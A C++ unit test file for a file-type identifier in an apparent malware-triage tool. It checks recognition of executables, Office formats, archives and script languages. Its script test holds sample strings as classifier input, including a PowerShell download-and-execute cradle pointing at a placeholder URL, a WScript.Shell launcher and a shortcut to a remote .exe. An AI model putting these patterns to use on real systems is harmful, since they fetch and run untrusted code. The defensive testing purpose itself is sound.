#include "kensa/identify/file_identifier.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

#include "kensa/core/file.h"

namespace kensa::identify {
namespace {

constexpr const char* kCorpora = "../shared/corpora/";

sample::v1::FileType IdentifyCorpusFile(const std::string& relative) {
  auto data = ReadFileBounded(kCorpora + relative, 64 * 1024 * 1024);
  INFO("corpus file " << relative);
  REQUIRE(data.has_value());
  return Identify(*data);
}

sample::v1::FileType IdentifyText(std::string_view text) {
  return Identify(ByteSpan(reinterpret_cast<const std::uint8_t*>(text.data()), text.size()));
}

bool HasTag(const sample::v1::FileType& type, std::string_view tag) {
  return std::find(type.tags().begin(), type.tags().end(), tag) != type.tags().end();
}

TEST_CASE("Identify recognises executables by their headers") {
  auto pe32 = IdentifyCorpusFile("corkami/mini/pe32.exe");
  CHECK(pe32.format() == "pe");
  CHECK(HasTag(pe32, "pe32"));
  CHECK(HasTag(pe32, "exe"));
  auto pe64 = IdentifyCorpusFile("corkami/mini/pe64.exe");
  CHECK(HasTag(pe64, "pe32+"));
  auto dll = IdentifyCorpusFile("plaso-test-data/test_data/wrc-test-wevt_template.dll");
  CHECK(dll.format() == "pe");
  CHECK(HasTag(dll, "dll"));
  CHECK(dll.extension() == "dll");
  auto driver = IdentifyCorpusFile("plaso-test-data/test_data/test_driver.sys");
  CHECK(HasTag(driver, "driver"));
  CHECK(driver.extension() == "sys");
  auto elf = IdentifyCorpusFile("corkami/mini/mini.elf");
  CHECK(elf.format() == "elf");
  CHECK(IdentifyCorpusFile("corkami/mini/mini.macho").format() == "macho");
  CHECK(IdentifyCorpusFile("corkami/mini/java.class").format() == "java_class");
}

TEST_CASE("Identify tells Office formats apart by their streams and members") {
  auto doc = IdentifyCorpusFile("plaso-test-data/test_data/Document.doc");
  CHECK(doc.format() == "ole2");
  CHECK(HasTag(doc, "word"));
  auto docx = IdentifyCorpusFile("plaso-test-data/test_data/Document.docx");
  CHECK(docx.format() == "ooxml");
  CHECK(docx.extension() == "docx");
  auto docm = IdentifyCorpusFile("oletools-tests/tests/test-data/msodde/dde-test.docm");
  CHECK(docm.format() == "ooxml");
  CHECK(HasTag(docm, "word"));
  auto xlsm = IdentifyCorpusFile("oletools-tests/tests/test-data/excel4-macros/excel4_sample_macro.xlsm");
  CHECK(xlsm.format() == "ooxml");
  CHECK(HasTag(xlsm, "excel"));
  auto xls = IdentifyCorpusFile("oletools-tests/tests/test-data/excel4-macros/excel4_sample_macro.xls");
  CHECK(xls.format() == "ole2");
  CHECK(HasTag(xls, "excel"));
  auto ppt = IdentifyCorpusFile("oletools-tests/tests/test-data/olevba/sample_with_vba.ppt");
  CHECK(HasTag(ppt, "powerpoint"));
  auto encrypted = IdentifyCorpusFile("oletools-tests/tests/test-data/encrypted/encrypted.docx");
  CHECK(encrypted.format() == "ole2");
  CHECK(HasTag(encrypted, "encrypted_ooxml"));
  CHECK(IdentifyCorpusFile("oletools-tests/tests/test-data/rtfobj/issue_251.rtf").format() == "rtf");
}

TEST_CASE("Identify recognises archives, PDF and shortcuts") {
  CHECK(IdentifyCorpusFile("corkami/mini/zip.zip").format() == "zip");
  CHECK(IdentifyCorpusFile("corkami/mini/7-Zip.7z").format() == "7z");
  CHECK(IdentifyCorpusFile("corkami/mini/rar4.rar").format() == "rar");
  CHECK(IdentifyCorpusFile("corkami/mini/rar5.rar").description() == "RAR archive (v5)");
  CHECK(IdentifyCorpusFile("corkami/mini/gzip.gz").format() == "gzip");
  CHECK(IdentifyCorpusFile("corkami/mini/bzip2.bz2").format() == "bzip2");
  CHECK(IdentifyCorpusFile("corkami/mini/xz.xz").format() == "xz");
  CHECK(IdentifyCorpusFile("corkami/mini/cabinet.cab").format() == "cab");
  CHECK(IdentifyCorpusFile("corkami/mini/tar.tar").format() == "tar");
  CHECK(IdentifyCorpusFile("corkami/mini/iso.iso").format() == "iso");
  CHECK(IdentifyCorpusFile("corkami/mini/pdf.pdf").format() == "pdf");
  CHECK(IdentifyCorpusFile("corkami/pdf/1016garbage.pdf").format() == "pdf");
  CHECK(IdentifyCorpusFile("plaso-test-data/test_data/example.lnk").format() == "lnk");
  CHECK(IdentifyCorpusFile("corkami/mini/rich.rtf").format() == "rtf");
}

TEST_CASE("Identify classifies scripts by their constructs, not their names") {
  CHECK(IdentifyText("$u='http://x';$c=New-Object Net.WebClient;IEX $c.DownloadString($u);"
                     "Write-Host $env:TEMP")
            .tags(0) == "powershell");
  CHECK(IdentifyText("On Error Resume Next\r\nDim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\n"
                     "s.Run \"calc\"\r\n")
            .tags(0) == "vbscript");
  CHECK(IdentifyText("var sh = new ActiveXObject(\"WScript.Shell\");\nvar f = function(a){return a;};\n"
                     "sh.Run(f(\"calc\"));\n")
            .tags(0) == "jscript");
  CHECK(IdentifyText("@echo off\r\nsetlocal\r\nset /a n=1\r\ngoto :end\r\n:end\r\nexit /b 0\r\n")
            .tags(0) == "batch");
  CHECK(IdentifyText("<html><head><HTA:APPLICATION ID=\"x\"><script language=\"VBScript\">"
                     "</script></head></html>")
            .tags(0) == "hta");
  CHECK(IdentifyText("#@~^CAAAAA==\\ko$K6,zVVA4AAAA==^#~@").tags(0) == "vbe");
  CHECK(IdentifyText("#!/bin/sh\nif [ -f /tmp/x ]; then\n  chmod +x /tmp/x\nfi\n").tags(0) == "shell");
  CHECK(IdentifyText("Dear customer, please find the invoice attached.\n").format() == "text");
  CHECK(IdentifyText("[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n").format() ==
        "url_shortcut");
}

TEST_CASE("Identify handles empty, tiny and binary input without guessing") {
  CHECK(Identify({}).format() == "empty");
  const Bytes mz = {'M', 'Z'};
  CHECK(Identify(mz).format() == "dos");
  const Bytes binary = {0x00, 0x01, 0x02, 0xFF, 0x00, 0x10};
  CHECK(Identify(binary).format() == "unknown");
  // MZ with e_lfanew pointing far past the end is an MS-DOS stub, not a PE.
  Bytes bad_lfanew(0x40, 0);
  bad_lfanew[0] = 'M';
  bad_lfanew[1] = 'Z';
  bad_lfanew[0x3F] = 0x7F;
  CHECK(Identify(bad_lfanew).format() == "dos");
}

}  // namespace
}  // namespace kensa::identify
